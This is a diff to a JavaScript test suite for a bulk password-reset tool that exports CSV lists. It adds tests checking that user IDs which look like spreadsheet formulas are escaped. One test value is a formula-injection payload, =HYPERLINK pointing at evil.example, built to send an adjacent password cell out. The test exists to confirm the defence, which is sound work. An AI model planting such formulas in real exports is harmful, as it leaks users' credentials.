@@ -192,7 +192,7 @@ suite("the rows of a file", () => {
     assert.equal(second.code, undefined);
     await second.run();
     assert.deepEqual(states(second), ["unknown:M_PASSWORD_TOO_SHORT"]);
-    assert.equal(second.list(code), '"row","userId","newPassword","outcome"\r\n"1","@user1:example.com","First-Wortlaut-1","unknown"\r\n"1","@user1:example.com","Second-Wortlaut-2","unknown"\r\n');
+    assert.equal(second.list(code), '"row","userId","newPassword","outcome"\r\n"1","\'@user1:example.com","First-Wortlaut-1","unknown"\r\n"1","\'@user1:example.com","Second-Wortlaut-2","unknown"\r\n');
     assert.throws(() => second.list(newSeal().code));
     second.close();
   });
@@ -203,7 +203,7 @@ suite("the rows of a file", () => {
     const job = open(async () => ok, { rows: 1 });
     job.add(1, input(1));
     await job.run();
-    assert.equal(job.list(job.code), '"row","userId","newPassword","outcome"\r\n"1","@user1:example.com","Start-Here-1!","done"\r\n');
+    assert.equal(job.list(job.code), '"row","userId","newPassword","outcome"\r\n"1","\'@user1:example.com","Start-Here-1!","done"\r\n');
     job.close();
   });
 
@@ -316,11 +316,23 @@ suite("the rows of a file", () => {
     assert.deepEqual(["okta:UpdateUser", "workmail:ResetPassword", "graph:UpdateUser"].map(rateOf), [8, 10, 50]);
   });
 
-  test("the report is no formula", async () => {
+  test("neither report nor list is a formula", async () => {
     const job = open(async () => ok, { operation: "scim:PatchUser", rows: 1 });
     job.add(1, { id: "=1+1", password: "Zq7!vK2?tN9~" });
     await job.run();
     assert.equal(job.report(), '"row","id","outcome"\r\n"1","\'=1+1","unknown:unreadable_answer"\r\n'.replace("unknown:unreadable_answer", job.journal.rows.get(1).state));
+    job.close();
+  });
+
+  test("the list of passwords holds them as they are, and its people as texts", async () => {
+    const people = ["=HYPERLINK(\"http://evil.example/?p=\"&C2)", "＝1", "ada;=1+1", "ada"];
+    const job = open(async () => ({ status: 204, headers: {}, body: "" }), { operation: "scim:PatchUser", rows: people.length });
+    people.forEach((id, row) => job.add(row + 1, { id, password: "=q7!vK2?tN9~" }));
+    await job.run();
+    assert.deepEqual(job.list(job.code).split("\r\n").slice(1, -1), [
+      '"1","\'=HYPERLINK(""http://evil.example/?p=""&C2)","=q7!vK2?tN9~","done"',
+      '"2","\'＝1","=q7!vK2?tN9~","done"', '"3","ada;\'=1+1","=q7!vK2?tN9~","done"', '"4","ada","=q7!vK2?tN9~","done"',
+    ]);
     job.close();
   });
 });
@@ -375,7 +387,7 @@ suite("killed in the middle of a file", () => {
       job.close();
       assert.deepEqual([left, listed.length], [0, done]);
       assert.ok(done > before);
-      for (const [, user, password] of listed) assert.equal(did.get(user).at(-1), password);
+      for (const [, user, password] of listed) assert.equal(did.get(user.replace(/^'/, "")).at(-1), password);
     } finally {
       close();
     }
@@ -426,7 +438,7 @@ suite("killed in the middle of a file", () => {
       job.close();
       const listed = list.trim().split("\r\n").slice(1).map((row) => /^"(\d+)","([^"]*)","((?:[^"]|"")*)","(done|unknown)"$/.exec(row));
       assert.equal(listed.filter(([, , , , what]) => what === "done").length, count("done"));
-      if (idempotent) for (const [, , user, password] of listed) assert.equal(did.get(user).at(-1), password.replaceAll('""', '"'));
+      if (idempotent) for (const [, , user, password] of listed) assert.equal(did.get(user.replace(/^'/, "")).at(-1), password.replaceAll('""', '"'));
       const journal = readFileSync(path, "utf8") + readFileSync(`${path}.sealed`, "utf8") + output.replace(first, "");
       assert.doesNotMatch(journal, /user\d|New-Pass|Made-Here|T0K-of/);
     });
